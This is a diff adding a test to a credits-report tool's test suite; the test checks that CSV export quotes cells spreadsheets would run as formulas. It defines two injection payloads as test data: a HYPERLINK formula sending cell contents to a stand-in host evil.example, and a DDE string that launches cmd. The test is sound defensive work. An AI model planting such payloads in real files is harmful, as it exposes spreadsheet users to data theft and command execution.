@@ -3,6 +3,7 @@ CSV / JSON / HTML / PDF renderings (see tests/_credits_fixtures.py for the produ
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import hashlib
 import io
@@ -429,6 +430,44 @@ def test_csv_round_trip(report: CreditReport, files: dict[str, Path]) -> None:
     definition = {r["key"]: r["value"] for r in read_csv(files["credits_definition.csv"])}
     assert definition["grade_b"] == "0.9" and definition["ledger_head"] == report.ledger_head
     assert "ΔE76" in definition["definition_2"]
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+EVIL_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
+    """A person named like a formula (or a comment starting with @, +, -, =, tab, CR) must
+    not become a live formula when the CSV is opened in Excel: such text cells start with a
+    single quote, read_csv gives the text back unchanged, and numbers stay numbers."""
+    proj = Project.init(tmp_path / "inj", production="+Show")
+    workflow.record_generated(proj, "EP07_C001", png(ai_image(71), record(71)), record(71),
+                              requested_by="-Mori")
+    workflow.record_paint(proj, "EP07_C001", opaque_layer(slice(0, 10), (255, 0, 255)),
+                          EVIL_NAME, 10.0)
+    workflow.record_paint(proj, "EP07_C001", opaque_layer(slice(10, 12), (255, 255, 0)),
+                          "'quoted' Aoi", 5.0)
+    workflow.accept(proj, "EP07_C001", "@Kei Director", comment=EVIL_COMMENT)
+    report = build_report(proj, now=FIXED)
+    proj.close()
+    files = {p.name: p for p in write_reports(report, tmp_path / "out", ["csv"])}
+    for table in CSV_TABLES:
+        path = files[f"credits_{table}.csv"]
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            raw = list(csv.DictReader(fh))
+        for row in raw:
+            for column, text in row.items():
+                assert not text.startswith(FORMULA_START), (table, column, text)
+        assert read_csv(path) == TABLES[table](report), table
+    raw_plates = files["credits_plates.csv"].read_text(encoding="utf-8-sig")
+    assert f"'{EVIL_COMMENT}" in raw_plates and "'-Mori" in raw_plates
+    (plate,) = read_csv(files["credits_plates.csv"])
+    assert plate["review_comment"] == EVIL_COMMENT and plate["approver"] == "@Kei Director"
+    assert plate["prompt_author"] == "-Mori" and EVIL_NAME in plate["retouch"]
+    assert isinstance(plate["human_paint_share"], float) and plate["width"] == 80
+    people = read_csv(files["credits_people.csv"])
+    assert {EVIL_NAME, "'quoted' Aoi"} <= {r["person"] for r in people}
 
 
 def test_html_is_one_self_contained_file_naming_everyone(report: CreditReport,
